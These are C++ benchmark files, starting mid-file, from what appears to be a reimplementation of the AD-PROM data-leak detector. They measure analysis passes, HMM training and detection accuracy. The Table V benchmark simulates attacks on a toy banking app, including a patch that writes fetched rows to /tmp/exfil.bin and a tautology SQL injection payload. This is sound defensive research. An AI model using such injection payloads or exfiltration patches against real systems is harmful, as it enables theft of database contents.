         << ", \"witness_ms\": " << Num(r.witness_ms)
         << ", \"fi_labeled_sinks\": " << r.fi_labeled_sinks
         << ", \"fs_labeled_sinks\": " << r.fs_labeled_sinks
         << ", \"pruned_edges\": " << r.pruned_edges
         << ", \"bounded_loops\": " << r.bounded_loops
         << ", \"lint_findings\": " << r.lint_findings
         << ", \"ifds_sink_facts\": " << r.ifds_sink_facts
         << ", \"ifds_pruned_facts\": " << r.ifds_pruned_facts
         << ", \"ifds_witnesses\": " << r.ifds_witnesses << "}"
         << (i + 1 < results.size() ? "," : "") << "\n";
  }
  json << "  ],\n";
  json << "  \"drift\": {\"corpus\": \"samples/drift\", \"revisions\": [\n";
  for (size_t i = 0; i < drift.size(); ++i) {
    const DriftResult& r = drift[i];
    json << "    {\"revision\": \"" << r.revision << "\""
         << ", \"kind\": \"" << r.kind << "\""
         << ", \"functions\": " << r.functions
         << ", \"cold_ms\": " << Num(r.cold_ms)
         << ", \"warm_ms\": " << Num(r.warm_ms)
         << ", \"speedup\": " << Num(r.speedup)
         << ", \"warm_hits\": " << r.warm_hits
         << ", \"warm_misses\": " << r.warm_misses << "}"
         << (i + 1 < drift.size() ? "," : "") << "\n";
  }
  json << "  ]},\n";
  json << "  \"forecast_ablation\": {\"app\": \"samples/absint/demo.mini\""
       << ", \"refined_mean_score\": " << Num(ablation.refined_mean_score)
       << ", \"uniform_mean_score\": " << Num(ablation.uniform_mean_score)
       << "}\n";
  json << "}\n";

  std::ofstream out(json_path, std::ios::binary);
  if (out) {
    out << json.str();
    std::printf("\nwrote %s\n", json_path.c_str());
  } else {
    std::printf("\nWARNING: cannot write %s\n", json_path.c_str());
  }
}

void Run(bool smoke, const std::string& json_path) {
  std::printf("\n=== Static analysis pass wall time (min ms/run%s) ===\n\n",
              smoke ? ", smoke" : "");
  const size_t repeats = smoke ? 2 : 10;
  util::ThreadPool pool(util::ThreadPool::DefaultConcurrency());
  const std::vector<apps::CorpusApp> corpus =
      smoke ? std::vector<apps::CorpusApp>{apps::MakeHospitalApp(),
                                           apps::MakeGrepLike(12, 1),
                                           apps::MakeBashLike(25, 8, 4)}
            : std::vector<apps::CorpusApp>{
                  apps::MakeHospitalApp(), apps::MakeBankingApp(),
                  apps::MakeSupermarketApp(), apps::MakeGrepLike(),
                  apps::MakeGzipLike(),    apps::MakeSedLike(),
                  apps::MakeBashLike(),
              };

  std::vector<AppResult> results;
  util::TablePrinter table({"app", "fns", "FI taint", "FS taint",
                            "FS pooled", "reach-defs", "liveness", "absint",
                            "refine", "lint", "ifds", "witness",
                            "FI/FS sinks", "pruned/bounded", "findings",
                            "facts-pruned"});
  for (const apps::CorpusApp& app : corpus) {
    AppResult r = BenchApp(app, repeats, &pool);
    table.AddRow({r.name, std::to_string(r.functions), Num(r.fi_taint_ms),
                  Num(r.fs_taint_ms), Num(r.fs_taint_pooled_ms),
                  Num(r.reaching_defs_ms), Num(r.liveness_ms),
                  Num(r.absint_ms), Num(r.refine_ms), Num(r.lint_ms),
                  Num(r.ifds_ms), Num(r.witness_ms),
                  std::to_string(r.fi_labeled_sinks) + "/" +
                      std::to_string(r.fs_labeled_sinks),
                  std::to_string(r.pruned_edges) + "/" +
                      std::to_string(r.bounded_loops),
                  std::to_string(r.lint_findings),
                  std::to_string(r.ifds_sink_facts) + "-" +
                      std::to_string(r.ifds_pruned_facts)});
    results.push_back(std::move(r));
  }
  table.Print();

  std::printf(
      "\n=== Incremental drift (samples/drift, cold vs warm cached-pass"
      " ms) ===\n\n");
  const std::vector<DriftResult> drift = RunDriftBench(repeats);
  util::TablePrinter drift_table({"revision", "kind", "fns", "cold",
                                  "warm", "speedup", "hits/misses"});
  for (const DriftResult& r : drift) {
    drift_table.AddRow({r.revision, r.kind, std::to_string(r.functions),
                        Num(r.cold_ms), Num(r.warm_ms),
                        util::StrFormat("%.1fx", r.speedup),
                        std::to_string(r.warm_hits) + "/" +
                            std::to_string(r.warm_misses)});
  }
  drift_table.Print();

  const ForecastAblation ablation = RunForecastAblation();
  WriteJson(results, drift, ablation, repeats, json_path);
}

}  // namespace
}  // namespace adprom::bench

int main(int argc, char** argv) {
  std::string json_path =
      std::string(ADPROM_SOURCE_DIR) + "/BENCH_analysis.json";
  bool smoke = false;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--json" && i + 1 < argc) {
      json_path = argv[++i];
    } else if (arg.rfind("--json=", 0) == 0) {
      json_path = arg.substr(7);
    } else if (arg == "--smoke") {
      smoke = true;
    }
  }
  adprom::bench::Run(smoke, json_path);
  return 0;
}
