// Wall-time of the static analysis passes over the CA + SIR corpus: the
// legacy flow-insensitive taint pass vs the flow-sensitive dataflow
// framework (serial and pooled), reaching definitions, liveness, and the
// full `adprom lint` vetter. Also reports the labeled-sink counts of the
// two taint passes — the delta is the spurious labels the strong updates
// remove.
//
// Machine-readable results are written to BENCH_analysis.json at the
// repository root (override with --json <path>).

#include <chrono>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/dataflow/flow_graph.h"
#include "analysis/dataflow/lint.h"
#include "analysis/dataflow/liveness.h"
#include "analysis/dataflow/reaching_defs.h"
#include "analysis/dataflow/taint_flow.h"
#include "analysis/taint.h"
#include "apps/corpus.h"
#include "prog/program.h"
#include "util/logging.h"
#include "util/strings.h"
#include "util/table_printer.h"
#include "util/thread_pool.h"

#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

namespace adprom::bench {
namespace {

std::string Num(double v) { return util::StrFormat("%.6g", v); }

struct AppResult {
  std::string name;
  size_t functions = 0;
  size_t call_sites = 0;
  double fi_taint_ms = 0.0;
  double fs_taint_ms = 0.0;
  double fs_taint_pooled_ms = 0.0;
  double reaching_defs_ms = 0.0;
  double liveness_ms = 0.0;
  double lint_ms = 0.0;
  size_t fi_labeled_sinks = 0;
  size_t fs_labeled_sinks = 0;
  size_t lint_findings = 0;
};

/// Runs `body` `repeats` times and returns the mean wall time in ms.
template <typename Fn>
double TimeMs(size_t repeats, const Fn& body) {
  const auto start = std::chrono::steady_clock::now();
  for (size_t i = 0; i < repeats; ++i) body();
  const double seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  return seconds * 1e3 / static_cast<double>(repeats);
}

AppResult BenchApp(const apps::CorpusApp& app, size_t repeats,
                   util::ThreadPool* pool) {
  auto parsed = prog::ParseProgram(app.source);
  ADPROM_CHECK_MSG(parsed.ok(), app.name + ": " + parsed.status().ToString());
  const prog::Program program = std::move(parsed).value();
  const analysis::TaintConfig config = analysis::TaintConfig::Default();

  AppResult result;
  result.name = app.name;
  result.functions = program.functions().size();

  result.fi_taint_ms = TimeMs(repeats, [&] {
    auto taint = analysis::RunTaintAnalysis(program, config);
    ADPROM_CHECK(taint.ok());
    result.fi_labeled_sinks = taint->labeled_sinks.size();
  });
  result.fs_taint_ms = TimeMs(repeats, [&] {
    auto taint =
        analysis::dataflow::RunFlowSensitiveTaint(program, config, nullptr);
    ADPROM_CHECK(taint.ok());
    result.fs_labeled_sinks = taint->labeled_sinks.size();
  });
  result.fs_taint_pooled_ms = TimeMs(repeats, [&] {
    auto taint =
        analysis::dataflow::RunFlowSensitiveTaint(program, config, pool);
    ADPROM_CHECK(taint.ok());
  });
  result.reaching_defs_ms = TimeMs(repeats, [&] {
    for (const prog::FunctionDef& fn : program.functions()) {
      const auto graph = analysis::dataflow::FlowGraph::Build(fn);
      analysis::dataflow::ComputeReachingDefs(graph, fn.params);
    }
  });
  result.liveness_ms = TimeMs(repeats, [&] {
    for (const prog::FunctionDef& fn : program.functions()) {
      const auto graph = analysis::dataflow::FlowGraph::Build(fn);
      analysis::dataflow::ComputeLiveness(graph);
    }
  });
  result.lint_ms = TimeMs(repeats, [&] {
    auto report = analysis::dataflow::RunLint(program);
    ADPROM_CHECK(report.ok());
    result.lint_findings = report->findings.size();
  });

  size_t sites = 0;
  for (const prog::FunctionDef& fn : program.functions()) {
    const auto graph = analysis::dataflow::FlowGraph::Build(fn);
    for (const auto& node : graph.nodes()) sites += node.expr != nullptr;
  }
  result.call_sites = sites;
  return result;
}

void WriteJson(const std::vector<AppResult>& results,
               const std::string& json_path) {
  std::ostringstream json;
  json << "{\n";
  json << "  \"bench\": \"bench_analysis_passes\",\n";
  json << "  \"hardware_concurrency\": "
       << util::ThreadPool::DefaultConcurrency() << ",\n";
  json << "  \"apps\": [\n";
  for (size_t i = 0; i < results.size(); ++i) {
    const AppResult& r = results[i];
    json << "    {\"name\": \"" << r.name << "\""
         << ", \"functions\": " << r.functions
         << ", \"fi_taint_ms\": " << Num(r.fi_taint_ms)
         << ", \"fs_taint_ms\": " << Num(r.fs_taint_ms)
         << ", \"fs_taint_pooled_ms\": " << Num(r.fs_taint_pooled_ms)
         << ", \"reaching_defs_ms\": " << Num(r.reaching_defs_ms)
         << ", \"liveness_ms\": " << Num(r.liveness_ms)
         << ", \"lint_ms\": " << Num(r.lint_ms)
         << ", \"fi_labeled_sinks\": " << r.fi_labeled_sinks
         << ", \"fs_labeled_sinks\": " << r.fs_labeled_sinks
         << ", \"lint_findings\": " << r.lint_findings << "}"
         << (i + 1 < results.size() ? "," : "") << "\n";
  }
  json << "  ]\n";
  json << "}\n";

  std::ofstream out(json_path, std::ios::binary);
  if (out) {
    out << json.str();
    std::printf("\nwrote %s\n", json_path.c_str());
  } else {
    std::printf("\nWARNING: cannot write %s\n", json_path.c_str());
  }
}

void Run(const std::string& json_path) {
  std::printf("\n=== Static analysis pass wall time (ms/run) ===\n\n");
  const size_t repeats = 10;
  util::ThreadPool pool(util::ThreadPool::DefaultConcurrency());
  const std::vector<apps::CorpusApp> corpus = {
      apps::MakeHospitalApp(), apps::MakeBankingApp(),
      apps::MakeSupermarketApp(), apps::MakeGrepLike(),
      apps::MakeGzipLike(),    apps::MakeSedLike(),
      apps::MakeBashLike(),
  };

  std::vector<AppResult> results;
  util::TablePrinter table({"app", "fns", "FI taint", "FS taint",
                            "FS pooled", "reach-defs", "liveness", "lint",
                            "FI/FS sinks", "findings"});
  for (const apps::CorpusApp& app : corpus) {
    AppResult r = BenchApp(app, repeats, &pool);
    table.AddRow({r.name, std::to_string(r.functions), Num(r.fi_taint_ms),
                  Num(r.fs_taint_ms), Num(r.fs_taint_pooled_ms),
                  Num(r.reaching_defs_ms), Num(r.liveness_ms), Num(r.lint_ms),
                  std::to_string(r.fi_labeled_sinks) + "/" +
                      std::to_string(r.fs_labeled_sinks),
                  std::to_string(r.lint_findings)});
    results.push_back(std::move(r));
  }
  table.Print();
  WriteJson(results, json_path);
}

}  // namespace
}  // namespace adprom::bench

int main(int argc, char** argv) {
  std::string json_path =
      std::string(ADPROM_SOURCE_DIR) + "/BENCH_analysis.json";
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--json" && i + 1 < argc) {
      json_path = argv[++i];
    } else if (arg.rfind("--json=", 0) == 0) {
      json_path = arg.substr(7);
    }
  }
  adprom::bench::Run(json_path);
  return 0;
}
