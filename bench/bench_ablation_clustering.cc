// Ablation for the paper's §V-D clustering claim: "the number of hidden
// states before reduction was 1366 and after the clustering became 455.
// The training time was reduced by about 70%". We train the bash-like app
// with the PCA+k-means reduction enabled vs disabled (one hidden state per
// call site) and compare hidden-state counts and Baum-Welch time.

#include <cstdio>

#include "bench/bench_common.h"
#include "util/strings.h"
#include "util/table_printer.h"

namespace adprom::bench {
namespace {

void Run() {
  PrintHeader("Ablation — hidden-state clustering (paper §V-D)");

  // A mid-size bash-like build keeps the unclustered baseline tractable
  // while preserving the N² training-cost relationship.
  PreparedApp prepared = Prepare(apps::MakeBashLike(64, 40, 11));
  const size_t sites = prepared.analysis.program_ctm.num_sites();

  core::ProfileOptions base;
  base.max_training_windows = 150;
  base.train.max_iterations = 2;
  base.train.tolerance = 0.0;  // fixed iteration count for a fair ratio
  base.csds_fraction = 0.0;    // no early stopping either

  core::ProfileOptions unclustered = base;
  unclustered.cluster_threshold = 1u << 20;  // never cluster

  core::ProfileOptions clustered = base;
  clustered.cluster_threshold = 1;  // always cluster
  clustered.cluster_fraction = 0.3;

  core::ConstructionTimings t_unclustered;
  core::ConstructionTimings t_clustered;
  auto without = core::AdProm::Train(prepared.program,
                                     prepared.app.db_factory,
                                     prepared.app.test_cases, unclustered,
                                     &t_unclustered);
  ADPROM_CHECK_MSG(without.ok(), without.status().ToString());
  auto with = core::AdProm::Train(prepared.program, prepared.app.db_factory,
                                  prepared.app.test_cases, clustered,
                                  &t_clustered);
  ADPROM_CHECK_MSG(with.ok(), with.status().ToString());

  util::TablePrinter table({"Configuration", "Hidden states",
                            "Reduction (s)", "Training (s)"});
  table.AddRow({"one state per call (no clustering)",
                std::to_string(without->profile().num_states),
                util::StrFormat("%.4f", t_unclustered.reduction_seconds),
                util::StrFormat("%.4f", t_unclustered.training_seconds)});
  table.AddRow({"PCA + k-means (K = 0.3 n)",
                std::to_string(with->profile().num_states),
                util::StrFormat("%.4f", t_clustered.reduction_seconds),
                util::StrFormat("%.4f", t_clustered.training_seconds)});
  table.Print();

  const double cut = 100.0 * (1.0 - t_clustered.training_seconds /
                                        t_unclustered.training_seconds);
  std::printf(
      "\ncall sites: %zu; training time cut by clustering: %.1f%%"
      " (paper: ~70%% on bash, 1366 -> 455 states)\n",
      sites, cut);
}

}  // namespace
}  // namespace adprom::bench

int main() {
  adprom::bench::Run();
  return 0;
}
