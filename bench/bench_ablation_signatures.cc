// Ablation for the paper's first §VII limitation: "the attacker can issue
// new queries with similar selectivity to avoid changing the call
// sequences ... recording queries signatures along with library calls can
// mitigate this case". We swap the reporting query of a client for one of
// identical selectivity against a different table and compare the base
// system (undetected — the stated limitation) with the signature-recording
// profile (detected).

#include <cstdio>
#include <memory>

#include "attack/mutators.h"
#include "bench/bench_common.h"
#include "util/strings.h"
#include "util/table_printer.h"

namespace adprom::bench {
namespace {

constexpr const char* kReportingApp = R"__(
fn main() {
  var cmd = scan();
  while (!is_null(cmd)) {
    if (cmd == "report") {
      report();
    } else {
      print_err("bad command");
    }
    cmd = scan();
  }
}
fn report() {
  var r = db_query("SELECT label FROM metrics ORDER BY id");
  var n = db_ntuples(r);
  var i = 0;
  while (i < n) {
    print(db_getvalue(r, i, 0));
    i = i + 1;
  }
}
)__";

core::DbFactory TwinTablesDb() {
  return [] {
    auto db = std::make_unique<db::Database>();
    db->Execute("CREATE TABLE metrics (id INT, label TEXT)");
    db->Execute("CREATE TABLE salaries (id INT, label TEXT)");
    for (int i = 0; i < 8; ++i) {
      db->Execute(util::StrFormat(
          "INSERT INTO metrics VALUES (%d, 'metric%d')", i, i));
      db->Execute(util::StrFormat(
          "INSERT INTO salaries VALUES (%d, 'salary%d')", i, i));
    }
    return db;
  };
}

void Run() {
  PrintHeader("Ablation — query signature recording (paper §VII)");

  auto program = prog::ParseProgram(kReportingApp);
  ADPROM_CHECK(program.ok());
  const std::vector<core::TestCase> cases = {
      {{"report"}}, {{"report", "report"}}, {{"oops", "report"}},
      {{"report", "oops", "report"}}};

  // Same-selectivity swap: salaries also has 8 rows, so the call sequence
  // is bit-for-bit identical.
  auto tampered = attack::ModifyStringLiteral(
      *program, "report", "SELECT label FROM metrics ORDER BY id",
      "SELECT label FROM salaries ORDER BY id");
  ADPROM_CHECK(tampered.ok());

  util::TablePrinter table(
      {"Profile", "Benign run", "Same-selectivity query swap"});
  for (const bool signatures : {false, true}) {
    core::ProfileOptions options;
    options.use_query_signatures = signatures;
    auto system = core::AdProm::Train(*program, TwinTablesDb(), cases,
                                      options);
    ADPROM_CHECK_MSG(system.ok(), system.status().ToString());
    auto benign = system->Monitor(*program, TwinTablesDb(), {{"report"}});
    auto attack_run =
        system->Monitor(*tampered, TwinTablesDb(), {{"report"}});
    ADPROM_CHECK(benign.ok());
    ADPROM_CHECK(attack_run.ok());
    table.AddRow({signatures ? "AD-PROM + query signatures"
                             : "AD-PROM (base)",
                  benign->HasAlarm() ? "ALARM (unexpected)" : "quiet",
                  attack_run->HasAlarm() ? "detected" : "undetected"});
  }
  table.Print();
  std::printf(
      "\n(the base system's miss is the limitation the paper states; the"
      " signature-recording profile closes it, at the cost of a larger"
      " observation alphabet)\n");
}

}  // namespace
}  // namespace adprom::bench

int main() {
  adprom::bench::Run();
  return 0;
}
