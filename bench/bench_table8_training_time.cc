// Regenerates Table VIII: elapsed time for each training-phase step on
// the SIR-dataset apps — building the CFGs (including "parsing the
// binaries", here the MiniApp sources), estimating the probabilities
// (taint + forecast per function), and aggregating the per-function CTMs
// into the pCTM. HMM initialization/training times are reported alongside.

#include <chrono>
#include <cstdio>

#include "bench/bench_common.h"
#include "util/strings.h"
#include "util/table_printer.h"

namespace adprom::bench {
namespace {

struct StepTimes {
  std::string name;
  double parse_and_cfg = 0.0;
  double probabilities = 0.0;
  double aggregation = 0.0;
  double reduction = 0.0;
  double training = 0.0;
};

StepTimes Measure(apps::CorpusApp app) {
  StepTimes out;
  out.name = app.name;

  // Parse is part of "Build CFG" (the paper folds binary parsing into it).
  const auto t0 = std::chrono::steady_clock::now();
  auto program = prog::ParseProgram(app.source);
  ADPROM_CHECK(program.ok());
  const double parse_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
          .count();

  core::Analyzer analyzer;
  auto analysis = analyzer.Analyze(*program);
  ADPROM_CHECK(analysis.ok());
  out.parse_and_cfg = parse_seconds + analysis->cfg_seconds;
  out.probabilities = analysis->taint_seconds + analysis->forecast_seconds;
  out.aggregation = analysis->aggregation_seconds;

  core::ProfileOptions options;
  options.max_training_windows = 400;
  options.train.max_iterations = 5;
  core::ConstructionTimings timings;
  auto system = core::AdProm::Train(*program, app.db_factory,
                                    app.test_cases, options, &timings);
  ADPROM_CHECK_MSG(system.ok(), system.status().ToString());
  out.reduction = timings.reduction_seconds;
  out.training = timings.training_seconds;
  return out;
}

void Run() {
  PrintHeader("Table VIII — Elapsed time to perform training steps");
  util::TablePrinter table({"Time (sec)", "App1", "App2", "App3", "App4"});

  std::vector<StepTimes> rows;
  rows.push_back(Measure(apps::MakeGrepLike()));
  rows.push_back(Measure(apps::MakeGzipLike()));
  rows.push_back(Measure(apps::MakeSedLike()));
  rows.push_back(Measure(apps::MakeBashLike()));

  auto add_row = [&](const char* label, double StepTimes::* field) {
    std::vector<std::string> cells = {label};
    for (const StepTimes& row : rows) {
      cells.push_back(util::StrFormat("%.4f", row.*field));
    }
    table.AddRow(std::move(cells));
  };
  add_row("Build CFG", &StepTimes::parse_and_cfg);
  add_row("Probabilities Est.", &StepTimes::probabilities);
  add_row("Aggregation", &StepTimes::aggregation);
  add_row("Reduction (PCA+k-means)", &StepTimes::reduction);
  add_row("HMM Training", &StepTimes::training);
  table.Print();
  std::printf(
      "\n(paper: CFG 0.12-1.65s, probabilities 0.4-7.18s, aggregation"
      " 46.8-237.3s, dominated by the largest app — the expected shape is"
      " aggregation >> the other static steps and App4 the most"
      " expensive column)\n");
}

}  // namespace
}  // namespace adprom::bench

int main() {
  adprom::bench::Run();
  return 0;
}
