// Regenerates Table V: AD-PROM vs CMarkov on the five attack classes
// against the banking client (App_b). For each attack we deploy the
// tampered build (or malicious input, for the injection), monitor a run
// with both systems' profiles, and report detected / undetected and
// whether the alarm was connected to the data source.

#include <cstdio>
#include <functional>

#include "attack/mutators.h"
#include "bench/bench_common.h"
#include "core/baselines.h"
#include "util/table_printer.h"

namespace adprom::bench {
namespace {

struct AttackScenario {
  std::string name;
  std::string description;
  // Returns the deployed (possibly tampered) program.
  std::function<prog::Program(const prog::Program&)> tamper;
  core::TestCase test_case;
};

std::string Verdict(const core::AdProm::MonitorResult& result) {
  if (!result.HasAlarm()) return "undetected";
  if (result.ConnectedToSource()) return "detected & connected to source";
  return "detected";
}

void Run() {
  PrintHeader("Table V — AD-PROM vs CMarkov (attacks on App_b)");

  PreparedApp prepared = Prepare(apps::MakeBankingApp());
  core::AdProm adprom_system = TrainOrDie(prepared);
  core::AdProm cmarkov_system =
      TrainOrDie(prepared, core::CMarkovOptions());

  auto clone = [](const prog::Program& p) { return p.Clone(); };

  std::vector<AttackScenario> scenarios;
  // Attack 1: a new print of TD at the end of statement() — by call *name*
  // it looks like one more line of an (already variable-length) statement
  // listing, so a name-level model accepts it; the block-id label of the
  // new site is what gives it away.
  scenarios.push_back(
      {"Attack 1", "similar print inserted at another block",
       [](const prog::Program& benign) {
         attack::InsertOutputSpec spec;
         spec.function = "statement";
         spec.variable = "bal";
         spec.where = attack::InsertWhere::kEnd;
         auto tampered = attack::InsertOutputStatement(benign, spec);
         ADPROM_CHECK(tampered.ok());
         return std::move(tampered).value();
       },
       {{"statement", "503"}}});
  // Attack 2: new output call in a function that never prints.
  scenarios.push_back(
      {"Attack 2", "new print call in a different function",
       [](const prog::Program& benign) {
         attack::InsertOutputSpec spec;
         spec.function = "audit";
         spec.variable = "msg";
         spec.where = attack::InsertWhere::kEnd;
         auto tampered = attack::InsertOutputStatement(benign, spec);
         ADPROM_CHECK(tampered.ok());
         return std::move(tampered).value();
       },
       {{"typo", "statement", "503"}}});
  // Attack 3: reuse an existing print command to output targeted data.
  // transfer()'s confirmation print is the only *untainted* print there;
  // swapping its argument for the fetched balance changes no call name in
  // the sequence — only the data flow.
  scenarios.push_back(
      {"Attack 3", "existing print reused with a query-result argument",
       [](const prog::Program& benign) {
         auto tampered = attack::ReplaceCallArgument(
             benign, "transfer", "print", /*occurrence=*/0,
             /*arg_index=*/0, "have");
         ADPROM_CHECK(tampered.ok());
         return std::move(tampered).value();
       },
       {{"transfer", "507", "508", "25"}}});
  // Attack 4: binary patch adds a file-exfiltration call in the loop.
  scenarios.push_back(
      {"Attack 4", "binary patch writes fetched rows to a file",
       [](const prog::Program& benign) {
         attack::InsertOutputSpec spec;
         spec.function = "find_client";
         spec.variable = "row";
         spec.output_call = "write_file";
         spec.channel_arg = "/tmp/exfil.bin";
         spec.where = attack::InsertWhere::kBodyOfFirstWhile;
         auto tampered = attack::InsertOutputStatement(benign, spec);
         ADPROM_CHECK(tampered.ok());
         return std::move(tampered).value();
       },
       {{"client", "104"}}});
  // Attack 5: tautology SQL injection through the vulnerable transaction.
  scenarios.push_back({"Attack 5",
                       "tautology SQL injection (1' OR '1'='1)", clone,
                       {{"client", attack::TautologyPayload()}}});

  util::TablePrinter table({"", "CMarkov", "AD-PROM"});
  for (const AttackScenario& scenario : scenarios) {
    const prog::Program deployed = scenario.tamper(prepared.program);
    auto adprom_result = adprom_system.Monitor(
        deployed, prepared.app.db_factory, scenario.test_case);
    auto cmarkov_result = cmarkov_system.Monitor(
        deployed, prepared.app.db_factory, scenario.test_case);
    ADPROM_CHECK(adprom_result.ok());
    ADPROM_CHECK(cmarkov_result.ok());
    table.AddRow({scenario.name, Verdict(*cmarkov_result),
                  Verdict(*adprom_result)});
  }
  table.Print();
  std::printf(
      "\n(paper: CMarkov misses Attacks 1 and 3 and never connects to the"
      " source; AD-PROM detects all five and connects each to the leaked"
      " table)\n");

  // Sanity row: a benign run must stay quiet under both systems.
  auto benign_ad = adprom_system.Monitor(prepared.program,
                                         prepared.app.db_factory,
                                         {{"client", "104"}});
  auto benign_cm = cmarkov_system.Monitor(prepared.program,
                                          prepared.app.db_factory,
                                          {{"client", "104"}});
  ADPROM_CHECK(benign_ad.ok());
  ADPROM_CHECK(benign_cm.ok());
  std::printf("benign run:  CMarkov %s, AD-PROM %s\n",
              benign_cm->HasAlarm() ? "ALARM (unexpected)" : "quiet",
              benign_ad->HasAlarm() ? "ALARM (unexpected)" : "quiet");
}

}  // namespace
}  // namespace adprom::bench

int main() {
  adprom::bench::Run();
  return 0;
}
