// Throughput bench for the two hot layers: parallel Baum-Welch training
// and the encode-once / workspace detection pipeline.
//
//  * Training: the Table-8-style heavy corpus (the bash-like SIR app,
//    ~1000 call sites, clustered to ~300 hidden states) trained at
//    1/2/4/N threads (N = hardware concurrency), with wall-time, speedup,
//    and a bit-identical check of the parallel vs serial output.
//  * Detection: the grep-like app's traces scored by (a) the seed-style
//    per-window path (re-encode + allocate per window), (b) the
//    encode-once/workspace MonitorTrace, and (c) the batch MonitorTraces
//    pool fan-out at 1/2/4/N threads; reported as events/sec.
//
// Machine-readable results are written to BENCH_throughput.json at the
// repository root (override with --json <path>) so the perf trajectory is
// tracked across PRs.

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "bench/bench_common.h"
#include "core/detection_engine.h"
#include "hmm/baum_welch.h"
#include "hmm/inference.h"
#include "util/strings.h"
#include "util/table_printer.h"
#include "util/thread_pool.h"

#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

namespace adprom::bench {
namespace {

double Seconds(const std::chrono::steady_clock::time_point& start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                       start)
      .count();
}

struct TrainRun {
  size_t threads = 0;
  double seconds = 0.0;
  double speedup = 1.0;
};

struct DetectRun {
  std::string name;
  size_t threads = 1;
  double seconds = 0.0;
  double events_per_sec = 0.0;
  double windows_per_sec = 0.0;
};

/// The thread counts to sweep: 1, 2, 4, and the hardware concurrency.
std::vector<size_t> ThreadSweep() {
  std::set<size_t> sweep = {1, 2, 4, util::ThreadPool::DefaultConcurrency()};
  return {sweep.begin(), sweep.end()};
}

/// The seed (pre-refactor) detection path, reproduced in full: every
/// overlapping window is re-encoded, scored with freshly allocated forward
/// buffers, and the TD provenance set is built window by window. This is
/// the baseline the encode-once/workspace pipeline is measured against.
std::vector<core::Detection> SeedMonitorTrace(
    const core::ApplicationProfile& profile, const runtime::Trace& trace) {
  std::vector<core::Detection> out;
  const auto windows =
      core::SlidingWindows(trace, profile.options.window_length);
  out.reserve(windows.size());
  for (size_t i = 0; i < windows.size(); ++i) {
    const auto& window = windows[i];
    core::Detection detection;
    detection.window_start = i;
    std::set<std::string> sources;
    bool has_td_output = false;
    for (const runtime::CallEvent& event : window) {
      if (!profile.options.use_dd_labels) break;
      if (event.td_output) {
        has_td_output = true;
        sources.insert(event.source_tables.begin(),
                       event.source_tables.end());
        auto it = profile.labeled_sources.find(event.Observable());
        if (it != profile.labeled_sources.end()) {
          sources.insert(it->second.begin(), it->second.end());
        }
      }
    }
    for (const runtime::CallEvent& event : window) {
      if (profile.context_pairs.count({event.caller, event.callee}) == 0) {
        detection.flag = core::DetectionFlag::kOutOfContext;
        detection.detail = event.callee + " called from " + event.caller;
        break;
      }
    }
    const hmm::ObservationSeq seq = profile.Encode(window);
    auto score = hmm::PerSymbolLogLikelihood(profile.model, seq);
    detection.score = score.ok() ? *score : -1e9;
    for (int symbol : seq) {
      if (symbol == profile.alphabet.unk_id()) {
        detection.score = -1e9;
        if (detection.detail.empty())
          detection.detail = "unknown call symbol";
        break;
      }
    }
    if (detection.flag != core::DetectionFlag::kOutOfContext) {
      if (detection.score < profile.threshold) {
        detection.flag = has_td_output ? core::DetectionFlag::kDataLeak
                                       : core::DetectionFlag::kAnomalous;
      } else {
        detection.flag = core::DetectionFlag::kNormal;
      }
    }
    if (detection.IsAlarm() && has_td_output) {
      detection.source_tables.assign(sources.begin(), sources.end());
    }
    out.push_back(std::move(detection));
  }
  return out;
}

std::string Num(double v) { return util::StrFormat("%.6g", v); }

struct BenchResults {
  std::vector<TrainRun> train_runs;
  bool bit_identical = true;
  int train_iterations = 0;
  size_t train_windows = 0;
  size_t train_states = 0;
  size_t train_alphabet = 0;
  std::vector<DetectRun> detect_runs;
  size_t detect_repeats = 0;
  size_t detect_traces = 0;
  size_t detect_events = 0;
  size_t detect_windows = 0;
};

void BenchTraining(BenchResults* results) {
  // Table-8-style heavy corpus: the bash-like app crosses the 900-site
  // clustering threshold, so the trained HMM has hundreds of states and
  // the E-step is genuinely expensive.
  PreparedApp prepared = Prepare(apps::MakeBashLike());
  core::ProfileOptions options;
  options.train.max_iterations = 1;  // the sweep below re-trains
  options.max_training_windows = 400;
  core::AdProm system = TrainOrDie(prepared, options);
  const core::ApplicationProfile& profile = system.profile();

  std::vector<hmm::ObservationSeq> windows;
  for (const runtime::Trace& trace : system.training_traces()) {
    for (const auto& window :
         core::SlidingWindows(trace, options.window_length)) {
      windows.push_back(profile.Encode(window));
    }
  }
  // Same bound Table VIII uses, so a sweep run stays in seconds.
  constexpr size_t kTrainWindowCap = 400;
  if (windows.size() > kTrainWindowCap) windows.resize(kTrainWindowCap);
  results->train_windows = windows.size();
  results->train_states = profile.model.num_states();
  results->train_alphabet = profile.alphabet.size();
  std::printf("training corpus: bash-like, %zu windows, %zu states,"
              " alphabet %zu\n",
              windows.size(), profile.model.num_states(),
              profile.alphabet.size());

  constexpr int kIterations = 3;
  results->train_iterations = kIterations;
  hmm::HmmModel reference_model;
  for (size_t threads : ThreadSweep()) {
    hmm::HmmModel model = profile.model;  // same start for every run
    hmm::TrainOptions train;
    train.max_iterations = kIterations;
    train.tolerance = 0.0;
    train.num_threads = static_cast<int>(threads);
    const auto t0 = std::chrono::steady_clock::now();
    auto stats = hmm::BaumWelchTrain(&model, windows, train);
    const double seconds = Seconds(t0);
    ADPROM_CHECK_MSG(stats.ok(), stats.status().ToString());
    TrainRun run;
    run.threads = threads;
    run.seconds = seconds;
    run.speedup = results->train_runs.empty()
                      ? 1.0
                      : results->train_runs.front().seconds / seconds;
    results->train_runs.push_back(run);
    if (results->train_runs.size() == 1) {
      reference_model = model;
    } else {
      results->bit_identical =
          results->bit_identical &&
          model.a().MaxAbsDiff(reference_model.a()) == 0.0 &&
          model.b().MaxAbsDiff(reference_model.b()) == 0.0 &&
          model.pi() == reference_model.pi();
    }
  }

  util::TablePrinter table(
